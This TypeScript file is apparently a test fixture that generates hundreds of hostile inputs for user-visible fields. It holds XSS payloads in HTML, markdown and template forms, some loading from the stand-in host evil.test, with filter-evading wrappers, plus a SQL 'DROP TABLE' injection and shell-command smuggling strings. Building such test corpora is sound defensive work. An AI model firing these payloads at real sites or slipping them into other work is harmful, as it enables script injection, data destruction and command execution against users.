// Texts by people who mean no good, for every field that a person may come to see (S-50): markup in all its
// disguises, letters that hide or turn others round, and templates of other languages.

const SCRIPT = 'window.wasRun=true'

const TAGS = [
  `<script>${SCRIPT}</script>`,
  `<ScRiPt>${SCRIPT}</sCrIpT>`,
  `<script src=//evil.test/x.js></script>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<img/src=x/onerror=${SCRIPT}>`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>${SCRIPT}</script>">`,
  `<iframe src="javascript:${SCRIPT}">`,
  `<iframe srcdoc="<script>${SCRIPT}</script>">`,
  `<object data="javascript:${SCRIPT}">`,
  `<embed src="javascript:${SCRIPT}">`,
  `<body onload=${SCRIPT}>`,
  `<input autofocus onfocus=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`,
  `<video><source onerror=${SCRIPT}>`,
  `<audio src=x onerror=${SCRIPT}>`,
  `<marquee onstart=${SCRIPT}>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<a href="&#106;avascript:${SCRIPT}">x</a>`,
  `<form action="javascript:${SCRIPT}"><button>x</button></form>`,
  `<base href="//evil.test/">`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<link rel=stylesheet href=//evil.test/x.css>`,
  `<style>@import '//evil.test/x.css';*{display:none}</style>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${SCRIPT}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<template><img src=x onerror=${SCRIPT}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${SCRIPT}>">`,
  `<b style="background:url(//evil.test/x)">x</b>`,
  `<dialog open>x</dialog>`,
  `<portal src=//evil.test>`,
  `<webview src=//evil.test></webview>`,
]

const MARKDOWN = [
  `[x](javascript:${SCRIPT})`,
  `[x](JAVASCRIPT:${SCRIPT})`,
  `[x](data:text/html,<script>${SCRIPT}</script>)`,
  `[x](vbscript:${SCRIPT})`,
  `![x](https://evil.test/x.png)`,
  `![x](javascript:${SCRIPT})`,
  `[x]: javascript:${SCRIPT}`,
  `<javascript:${SCRIPT}>`,
  '`<img src=x onerror=alert(1)>`',
]

const TEMPLATES = [
  `{@html '<img src=x onerror=${SCRIPT}>'}`,
  `{${SCRIPT}}`,
  '{{constructor.constructor("window.wasRun=true")()}}',
  '${window.wasRun=true}',
  '<%= 1 %>',
  '%s%n%x',
  "'; DROP TABLE notifications; --",
  '$(touch x) `touch x` ; touch x',
]

/** Around each of the texts above. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `--></title></textarea></style>${text}`,
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (text) => `\u202E${text}\u202C`,
  (text) => `\u2066${text}`,
  (text) => text.replace(/s/g, 's\u200b'),
  (text) => text.replace(/</g, '<\u0000'),
  (text) => `**${text}**`,
]

const ODD = [
  '🔔'.repeat(80),
  '\u0301'.repeat(120),
  'ﷺ'.repeat(60),
  '\ud800',
  '\ufeff\u200b\u2060',
  'a'.repeat(240),
]

/** More than five hundred. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...[...TAGS, ...MARKDOWN, ...TEMPLATES].flatMap((text) => DISGUISES.map((hide) => hide(text))),
  ...ODD,
]
